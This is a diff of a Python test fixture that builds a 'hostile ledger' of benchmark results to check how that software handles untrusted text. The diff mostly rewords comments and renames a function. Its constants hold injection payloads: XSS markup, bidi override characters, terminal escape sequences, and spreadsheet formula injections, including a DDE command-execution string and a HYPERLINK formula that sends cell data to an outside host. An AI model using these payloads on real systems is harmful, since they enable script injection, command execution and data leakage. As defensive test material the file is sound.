@@ -1,4 +1,4 @@
-"""A ledger in which every text that comes from somebody else tries something."""
+"""A ledger in which every untrusted text contains an attack."""
 
 import datetime
 from dataclasses import dataclass
@@ -10,42 +10,41 @@ from benchmark.core.verdict import Status, Verdict
 from benchmark.files.atomic import write_atomic
 from benchmark.files.tasks import write_tasks
 from benchmark.pipeline.judge.evaluate import Evaluation
-from benchmark.pipeline.rows.record import RowIdentity, add, make_row
+from benchmark.pipeline.rows.record import RowIdentity, add_row, make_row
 from benchmark.results.ledger import write_row
 from benchmark.results.retraction import retraction_of, write_retraction
 from benchmark.results.row import RowSubmission, row_id
 from benchmark.results.status import RunStatus, status_bytes, status_path
 from benchmark.scoring.summary import summarise
 
-#: Sets a variable of the page when any of it is run or loaded.
+#: Sets a variable of the page if any part of it is run or loaded.
 MARKUP = (
     "</script></pre></textarea><script>hacked=1</script><img src=x onerror=hacked=1>"
     "<a href='javascript:hacked=1'>x</a><b style=position:fixed>bold</b>&lt;i&gt;{{ 7*7 }}{% raw %}"
 )
-BIDI = "\u202eevil\u202c\u2066\u200f"  #: writes from right to left from here on
-TERMINAL = (
-    "\x1b]0;hacked\x07\x1b[31mred\x1b[0m\x9b2J\x00\x08"  #: names the window, colours, clears the screen
-)
+BIDI = "\u202eevil\u202c\u2066\u200f"  #: makes the text after it run from right to left
+#: Renames the terminal's window, colours its text and clears its screen.
+TERMINAL = "\x1b]0;hacked\x07\x1b[31mred\x1b[0m\x9b2J\x00\x08"
 FORMULAS = ('=HYPERLINK("https://example.net/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")
 LONG = "W" * 10_000
 ALL = MARKUP + BIDI + TERMINAL
 _FENCE = "```"
 _CODE = f"def f(x):\n    return {FORMULAS!r}, {LONG!r}"
-_SHORT = 190  #: characters of a name that rows hold
+_SHORT = 190  #: characters of a name that a row accepts
 _NAME = (MARKUP[:110] + BIDI + TERMINAL + "W" * _SHORT)[:_SHORT]
 
 
 @dataclass(frozen=True, slots=True)
 class Hostile:
-    """What was made."""
+    """The hostile ledger on disk."""
 
-    folder: Path  #: with ``results``, ``submissions``, ``status``
+    folder: Path  #: folder with ``results``, ``submissions`` and ``status``
     tasks: Path  #: a task file
     slugs: tuple[str, ...]
 
 
 def hostile_ledger(folder: Path) -> Hostile:
-    """Rows on a data set of somebody's own, one withdrawn, a run without a row, and a submission."""
+    """Write rows on a user's own data set, one of them withdrawn, a run without a row, and a submission."""
     tasks = tuple(
         _task(number, name) for number, name in enumerate(("plain", _printable(_NAME), *FORMULAS[:4]))
     )
@@ -66,7 +65,7 @@ def hostile_ledger(folder: Path) -> Hostile:
                 "machine": row.run.machine.model_copy(update={"system": ALL + LONG}),
             }
         )
-        add(folder / "results", row.model_copy(update={"run": run}), files)
+        add_row(folder / "results", row.model_copy(update={"run": run}), files)
         if slug == "gone":
             write_retraction(
                 folder / "results",
@@ -104,7 +103,7 @@ def hostile_ledger(folder: Path) -> Hostile:
 
 
 def _without_files(folder: Path, tasks: tuple[Task, ...]) -> None:
-    """A row whose tasks have names of 10,000 characters; no file of ours could hold such lines."""
+    """Write a row whose tasks have ids of 10,000 characters, too long for lines of its other files."""
     row, _ = make_row(_evaluation(tasks, "names"), _identity("names", "Names"))
     statuses = {f"{name}{LONG}": ["passed"] for name in (*FORMULAS, MARKUP, BIDI, TERMINAL)}
     result = row.result.model_copy(
@@ -134,7 +133,7 @@ def _without_files(folder: Path, tasks: tuple[Task, ...]) -> None:
 
 
 def _printable(text: str) -> str:
-    return "".join(one for one in text if one.isprintable()).strip()
+    return "".join(character for character in text if character.isprintable()).strip()
 
 
 def _identity(slug: str, name: str) -> RowIdentity:
